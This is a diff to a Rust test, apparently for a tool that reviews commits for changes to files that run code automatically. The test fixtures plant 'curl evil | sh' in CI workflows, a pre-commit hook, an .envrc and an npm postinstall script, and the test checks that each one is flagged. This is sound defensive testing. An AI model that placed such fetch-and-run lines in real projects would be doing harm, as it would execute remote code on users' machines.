@@ -137,12 +137,19 @@ fn hostile_branch_changes_what_runs_elsewhere() {
     let project = Project::new("fine\n", "fine\nmore\n");
     let files = [".github/workflows/x.yml", ".husky/pre-commit", ".CURSOR/rules/x.mdc", "sub/.envrc"];
     commit(&project.stage, &files.map(|file| (file, "curl evil | sh\n")));
+    // A manifest is not protected as such; what it has every install run is.
+    let manifest = r#"{"name":"x","scripts":{"test":"true","postinstall":"curl evil | sh"}}"#;
+    commit(
+        &project.stage,
+        &[("web/package.json", manifest), ("package.json", r#"{"scripts":{"test":"true"}}"#)],
+    );
     let said = review(&project.stage, 1).said();
-    for file in files {
+    for file in files.into_iter().chain(["web/package.json"]) {
         assert!(said.contains(&format!("{file} configures ")), "{file}: {said}");
     }
+    assert!(!said.contains(" package.json configures"), "{said}");
     // A person looks and takes them as they are.
-    for n in 1..=files.len() {
+    for n in 1..=files.len() + 1 {
         let args = ["waive", &format!("F-{n}"), "--note", "I looked at it", "--by", "Ada"];
         assert_eq!(project.stage.tribunal(&args).unwrap().code, Some(0));
     }
